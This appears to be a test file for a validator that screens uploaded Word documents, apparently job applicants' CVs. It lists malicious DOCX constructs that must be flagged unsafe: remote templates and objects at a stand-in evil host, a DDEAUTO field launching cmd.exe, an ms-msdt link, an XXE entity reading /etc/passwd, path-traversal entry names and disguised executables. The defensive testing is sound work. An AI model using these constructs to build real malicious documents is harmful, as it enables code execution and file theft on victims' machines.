import { expect, test } from 'vitest';
import { doc, docx, WORD_PARTS, zipOf } from '#commerce/people/careers/testing/careers.ts';
import { documentProblem } from './document.ts';

const problemOf = (file: Buffer) => documentProblem(file, 'docx');

const TYPE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const related = (type: string, target: string, mode = 'External'): { name: string; text: string } => ({
  name: 'word/_rels/document.xml.rels',
  text: `<?xml version="1.0" encoding="UTF-8"?><Relationships><Relationship Id="r1" Type="${TYPE}/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`,
});
const body = (text: string): Buffer =>
  zipOf([WORD_PARTS[0]!, { name: 'word/document.xml', text: `<w:document><w:body>${text}</w:body></w:document>` }]);
const field = (...parts: readonly string[]): Buffer =>
  body(
    `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${parts.map((part) => `<w:r><w:instrText>${part}</w:instrText></w:r>`).join('')}`,
  );
const utf16 = (text: string): Buffer => Buffer.concat([Buffer.from('fffe', 'hex'), Buffer.from(text, 'utf16le')]);

/** A document whose bytes are changed after it was written. */
const changed = (change: (file: Buffer) => void, file = docx()): Buffer => {
  change(file);
  return file;
};
const directoryOf = (file: Buffer): number => file.readUInt32LE(file.length - 6);

test.each<[string, Buffer]>([
  ['a template from elsewhere', docx([related('attachedTemplate', 'https://evil.example/a.dotm')])],
  ['a template from a share', docx([related('attachedTemplate', 'file://evil/share/a.dotm')])],
  ['a template from a Windows share', docx([related('attachedTemplate', '\\\\evil\\share\\a.dotm')])],
  ['a picture from elsewhere', docx([related('image', 'https://evil.example/a.png')])],
  ['an object from elsewhere', docx([related('oleObject', 'mhtml:https://evil.example/a.html')])],
  [
    'an object from elsewhere that is marked as internal',
    docx([related('frame', 'https://evil.example/', 'Internal')]),
  ],
  ['a frame from elsewhere', docx([related('frame', 'https://evil.example/')])],
  ['a part of the document from elsewhere', docx([related('subDocument', 'https://evil.example/a.docx')])],
  ['data of a letter from elsewhere', docx([related('mailMergeSource', 'file:///c:/data.mdb')])],
  ['a mode in other capitals', docx([related('image', 'a.png', 'EXTERNAL')])],
  [
    'relationships in UTF-16',
    docx([
      {
        name: 'word/_rels/settings.xml.rels',
        text: utf16(
          `<Relationships><Relationship Type="${TYPE}/attachedTemplate" Target="https://evil.example/" TargetMode="External"/></Relationships>`,
        ),
      },
    ]),
  ],
  ['an address behind entities', docx([related('attachedTemplate', '&#104;ttps://evil.example/')])],
  ['a link that runs a script', docx([related('hyperlink', 'javascript:alert(1)')])],
  ['a link that opens a program', docx([related('hyperlink', 'ms-msdt:/id PCWDiagnostic')])],
  ['a link to a share', docx([related('hyperlink', 'file://evil/share/a.exe')])],
  ['a page inside', docx([related('aFChunk', 'page.html', 'Internal')])],
  ['a control', docx([related('control', 'activeX/activeX1.xml', 'Internal')])],
  [
    'macros by their type',
    docx([
      {
        name: 'word/a.xml',
        text: '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
      },
    ]),
  ],
  ['macros under another name', docx([{ name: 'word/evil.bin', text: 'x' }])],
  ['a document with macros inside', docx([{ name: 'word/embeddings/a.xlsm', text: 'x' }])],
  ['a program under the name of a picture', docx([{ name: 'word/media/a.png', text: 'MZ\u0090' }])],
  ['a page under the name of a part', docx([{ name: 'word/a.html', text: '<script>' }])],
  ['a field that starts a program', field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe')],
  ['the same in pieces', field(' DD', 'EAUTO ', 'cmd.exe')],
  ['a field that includes an address', field(' INCLUDETEXT "https://evil.example/"')],
  [
    'a field that shows a remote picture',
    body('<w:fldSimple w:instr=" INCLUDEPICTURE &quot;https://evil.example/a.png&quot;"/>'),
  ],
  [
    'a declaration of entities',
    docx([{ name: 'word/a.xml', text: '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>' }]),
  ],
  ['another encoding', docx([{ name: 'word/a.xml', text: '<?xml version="1.0" encoding="UTF-7"?><a/>' }])],
  [
    'a part that is larger than it says',
    docx([{ name: 'word/media/a.png', text: Buffer.alloc(5000, 'ab'), claimedBytes: 100 }]),
  ],
  ['a part that is smaller than it says', docx([{ name: 'word/media/a.png', text: 'ab', claimedBytes: 1000 }])],
  ['two parts whose names differ in capitals', docx([{ name: 'Word/Document.xml', text: 'x' }])],
  ['a path with a drive', docx([{ name: 'C:/windows/a.xml', text: 'x' }])],
  ['a path with backslashes', docx([{ name: '..\\..\\a.xml', text: 'x' }])],
  ['an absolute path', docx([{ name: '/etc/cron.d/a', text: 'x' }])],
  ['a name with a NUL', docx([{ name: 'word/a.xml\u0000.png', text: 'x' }])],
])('%s makes a document unsafe', async (_, file) => {
  expect(await problemOf(file)).toBe('unsafe');
});

test.each<[string, Buffer]>([
  ['headers that name other parts than the directory', changed((file) => file.write('[Content_Types].xmx', 30))],
  ['headers that give other sizes than the directory', changed((file) => file.writeUInt32LE(9, 22))],
  ['headers with another method', changed((file) => file.writeUInt16LE(0, 8))],
  [
    'two parts in one place',
    changed((file) => file.writeUInt32LE(0, file.indexOf('word/document.xml', directoryOf(file)) - 4)),
  ],
  ['a gap between its parts', changed((file) => file.writeUInt32LE(1, directoryOf(file) + 20))],
  ['a part that is in no directory', changed((file) => file.writeUInt16LE(1, file.length - 12))],
  ['a comment at its end', Buffer.concat([docx(), Buffer.from('comment')])],
  ['its first half alone', docx().subarray(0, 100)],
  ['a spreadsheet by another name', zipOf([WORD_PARTS[0]!, { name: 'xl/workbook.xml', text: '<a/>' }])],
  ['an old document by another name', doc()],
  ['a web page by another name', Buffer.from('<html>')],
])('an archive with %s is not a document', async (_, file) => {
  expect(await problemOf(file)).toBe('type');
});

test.each<[string, Buffer]>([
  ['the least one', docx()],
  ['links', docx([related('hyperlink', 'https://example.com/JavaScript')])],
  ['a link to an email address', docx([related('hyperlink', 'mailto:ann@example.com')])],
  ['a link to a telephone', docx([related('hyperlink', 'tel:+15145550123')])],
  ['a link without a scheme', docx([related('hyperlink', 'www.example.com/cv')])],
  ['a link to a file of its writer', docx([related('hyperlink', 'file:///C:/Users/Ann/portfolio.pdf')])],
  [
    'the place of the template on its writer’s computer',
    docx([related('attachedTemplate', 'file:///C:\\Users\\Ann\\Resume.dotx')]),
  ],
  [
    'pictures',
    docx([
      { name: 'word/media/image1.jpeg', text: Buffer.from('ffd8ffe0', 'hex') },
      related('image', 'media/image1.jpeg', 'Internal'),
    ]),
  ],
  [
    'a chart with its numbers',
    docx([{ name: 'word/embeddings/Microsoft_Excel_Worksheet.xlsx', text: zipOf([{ name: 'xl/workbook.xml' }]) }]),
  ],
  ['settings of a printer', docx([{ name: 'word/printerSettings/printerSettings1.bin', text: 'MZ?'.slice(2) }])],
  ['folders', docx([{ name: 'word/', text: '' }])],
  ['fields that show numbers of pages', field(' PAGE ', ' \\* MERGEFORMAT ')],
  ['a field with a link', field(' HYPERLINK "https://example.com" ')],
  [
    'words about programs',
    body('<w:p><w:r><w:t>INCLUDETEXT, DDEAUTO and JavaScript; vbaProject.bin</w:t></w:r></w:p>'),
  ],
  [
    'its text in another part, by Word on the Web',
    zipOf([WORD_PARTS[0]!, { name: 'word/document2.xml', text: '<w:document/>' }]),
  ],
  ['parts that are stored unpacked', docx([{ name: 'word/a.xml', text: '<a/>' }])],
])('a document with %s is accepted', async (_, file) => {
  expect(await problemOf(file)).toBeUndefined();
});
